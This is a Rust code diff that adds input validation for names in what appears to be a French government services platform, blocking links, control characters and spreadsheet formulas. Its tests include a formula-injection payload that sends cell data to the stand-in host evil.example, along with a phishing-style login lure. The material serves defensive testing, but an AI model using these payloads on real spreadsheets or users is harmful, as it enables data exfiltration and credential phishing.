@@ -122,6 +122,55 @@ pub fn text_field(raw: &str, max: usize) -> String {
     raw.trim().chars().filter(|c| !c.is_control()).take(max).collect()
 }
 
+/// A name (of an account, a démarche, an administration) as typed, checked: names travel in
+/// e-mails to other people and in the public open data, so they must not carry a link, a
+/// control character, or a leading `= + - @` (a spreadsheet formula). Trimmed; spaces inside
+/// collapsed. `Err` is the French message for the field (`what`: « Le nom », « L'administration »).
+pub fn name_field(raw: &str, max: usize) -> Result<String, String> {
+    let name = raw.split_whitespace().collect::<Vec<_>>().join(" ");
+    if raw.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r')) {
+        return Err("ne peut pas contenir de caractère de contrôle.".into());
+    }
+    if name.chars().count() > max {
+        return Err(format!("ne peut pas dépasser {max} caractères."));
+    }
+    if name.starts_with(['=', '+', '-', '@']) {
+        return Err("ne peut pas commencer par =, +, - ou @.".into());
+    }
+    if name_problem(&name).is_some() {
+        return Err("ne peut pas contenir d'adresse web ni d'adresse e-mail.".into());
+    }
+    Ok(name)
+}
+
+/// Why a stored name (which may predate [`name_field`]) is unfit to travel in an e-mail, if it is.
+pub fn name_problem(name: &str) -> Option<&'static str> {
+    if name.chars().any(char::is_control) {
+        return Some("control character");
+    }
+    if name.trim_start().starts_with(['=', '+', '-', '@']) {
+        return Some("formula");
+    }
+    let lower = name.to_lowercase();
+    if lower.contains("://") || lower.contains("www.") || lower.contains('@') {
+        return Some("link");
+    }
+    // A host name a mail client would turn into a link: letters, digits and hyphens on both
+    // sides of a dot, the last part two letters or more (« service-public.fr », « evil.example »).
+    // « M. Dupont » or « Dir. régionale » have a space after the dot, « 2.0 » no letters.
+    let linkish = lower
+        .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '«' | '»' | '"' | '\'' | ',' | ';' | '/'))
+        .any(|word| {
+            let word = word.trim_end_matches(['.', ':', '!', '?']);
+            let parts: Vec<&str> = word.split('.').collect();
+            parts.len() >= 2
+                && parts.iter().all(|p| !p.is_empty() && p.chars().all(|c| c.is_alphanumeric() || c == '-'))
+                && parts.last().is_some_and(|tld| tld.chars().count() >= 2 && tld.chars().all(char::is_alphabetic))
+                && parts[..parts.len() - 1].iter().any(|p| p.chars().count() >= 2)
+        });
+    linkish.then_some("link")
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -146,6 +195,41 @@ mod tests {
         for no in ["gmail.com", "notgouv.fr", "gouv.fr.evil.com", "evilademe.fr", "fr"] {
             assert!(!domain_trusted(no, &allowed), "{no}");
         }
+    }
+
+    #[test]
+    fn names_refuse_links_controls_and_formulas() {
+        for ok in [
+            "Demande de carte grise",
+            "Ministère de l'Intérieur",
+            "DGFiP – Direction générale des finances publiques",
+            "M. Dupont",
+            "Dir. régionale",
+            "Version 2.0 du service",
+            "Aide n° 3 : dépôt",
+            "Jean-Pierre L'Écuyer",
+        ] {
+            assert_eq!(name_field(ok, 200).as_deref(), Ok(ok), "{ok}");
+        }
+        assert_eq!(name_field("  Deux   espaces \t ", 200).as_deref(), Ok("Deux espaces"));
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")",
+            "+33 formule",
+            "-2+3",
+            "@SUM(A1)",
+            "URGENT : reconnectez-vous sur https://evil.example/login",
+            "Voir www.exemple.fr",
+            "Rendez-vous sur evil.example",
+            "service-public.fr",
+            "écrivez à nom@exemple.fr",
+            "nul\u{0}octet",
+            "retour\u{1b}[31m",
+        ] {
+            assert!(name_field(bad, 200).is_err(), "{bad:?}");
+            assert!(name_problem(bad).is_some(), "{bad:?}");
+        }
+        assert!(name_field(&"a".repeat(201), 200).is_err());
+        assert_eq!(name_problem("Démarche ordinaire"), None);
     }
 
     #[test]
